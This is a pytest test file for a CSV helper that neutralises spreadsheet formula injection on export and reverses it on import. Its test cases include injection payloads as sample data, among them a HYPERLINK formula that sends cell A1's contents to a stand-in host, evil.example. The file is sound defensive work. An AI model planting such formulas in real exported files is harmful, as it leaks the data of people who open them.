"""CSV cells are neutralised against formula injection on export and restored exactly on import."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.csvsafe import TRIGGERS, neutralise, read_rows, restore, rows_to_csv

CASES = [
    # (cell as stored, cell as exported)
    ("=1+1", "'=1+1"),
    ("+50491236721", "'+50491236721"),
    ("-2", "'-2"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\tindent", "'\tindent"),
    ("\r=cmd", "'\r=cmd"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    # Already an apostrophe before a trigger: one more, so restore knows which apostrophe is ours.
    ("'=1+1", "''=1+1"),
    ("''+1", "'''+1"),
    # Nothing a spreadsheet would run: unchanged.
    ("Colectivo Valle Verde", "Colectivo Valle Verde"),
    ("'quoted", "'quoted"),
    ("'", "'"),
    ("", ""),
    (" =1", " =1"),
    ("a=1", "a=1"),
    ("ana@example.org", "ana@example.org"),
]


@pytest.mark.parametrize(("cell", "exported"), CASES, ids=[repr(c) for c, _e in CASES])
def test_neutralise_and_restore(cell, exported):
    assert neutralise(cell) == exported
    assert restore(exported) == cell


@pytest.mark.parametrize("cell", ["'hello", "'", "''", "'a=1", "plain"])
def test_restore_leaves_cells_export_never_prefixes(cell):
    assert restore(cell) == cell


@given(st.text())
def test_restore_inverts_neutralise(text):
    assert restore(neutralise(text)) == text


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula(text):
    out = neutralise(text)
    assert not out or out[0] not in TRIGGERS


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_rows_round_trip_through_csv_text(rows):
    text = rows_to_csv(["a", "b"], rows)
    assert all(not line or line[0] not in TRIGGERS for line in text.split("\r\n"))
    assert read_rows(text) == [["a", "b"], *rows]


def test_rows_to_csv_writes_none_as_empty_and_numbers_as_text():
    assert rows_to_csv(["n", "x"], [[-5, None]], lineterminator="\n") == "n,x\n'-5,\n"
